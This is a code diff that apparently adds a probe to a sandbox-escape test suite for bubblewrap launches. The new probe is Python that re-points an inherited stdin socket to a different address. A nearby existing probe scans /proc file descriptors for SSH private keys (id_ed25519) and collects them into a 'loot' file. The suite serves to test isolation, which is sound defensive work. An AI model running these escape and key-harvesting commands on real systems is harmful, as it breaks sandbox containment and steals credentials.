@@ -32,6 +32,23 @@ const lacking = (id: string, title: string, missing: readonly string[]): Probe =
   landed: changed("out", "work/loot"),
 });
 
+/** Where the person's standard input leads, and another address. */
+const [given, other] = ["93.184.216.101", "93.184.216.77"];
+
+/** The target's standard input is a connection of this machine's, as inetd(8) and systemd's sockets give it. */
+const connected = `import os, socket, sys
+s = socket.create_connection(("${given}", 8080), 5)
+os.dup2(s.fileno(), 0)
+os.execvp(sys.argv[1], sys.argv[1:])`;
+
+/** connect(2) with AF_UNSPEC dissolves it; a socket stays in the network it was made in. */
+const turned = `import ctypes, socket
+s = socket.socket(fileno=0)
+ctypes.CDLL(None).connect(0, bytes(16), 16)
+s.settimeout(4)
+s.connect(("${other}", 8080))
+s.send(b"canary")`;
+
 export const launches: readonly Probe[] = [
   lacking("launch-without-bwrap", "start without bubblewrap", ["/usr/bin/bwrap"]),
   {
@@ -45,6 +62,18 @@ export const launches: readonly Probe[] = [
     inside: ({ work }) =>
       `cat <&97 > loot; for p in /proc/[0-9]*; do for f in $p/fd/*; do case "$(readlink $f)" in *id_ed25519) cat $f >> loot;; esac; done; cat "$p/fd/99/${key}" >> loot; done; : ${work}`,
     landed: read,
+  },
+  {
+    id: "stdin-connection",
+    decisive: true,
+    technique: 38,
+    title: "standard input that is a connection of the machine's, led to another address",
+    source: "own",
+    record: "unseen",
+    fatal: true,
+    around: () => ["python3", "-c", connected],
+    inside: () => `python3 -c '${turned}'`,
+    landed: reached(other),
   },
   {
     id: "environment-secret",
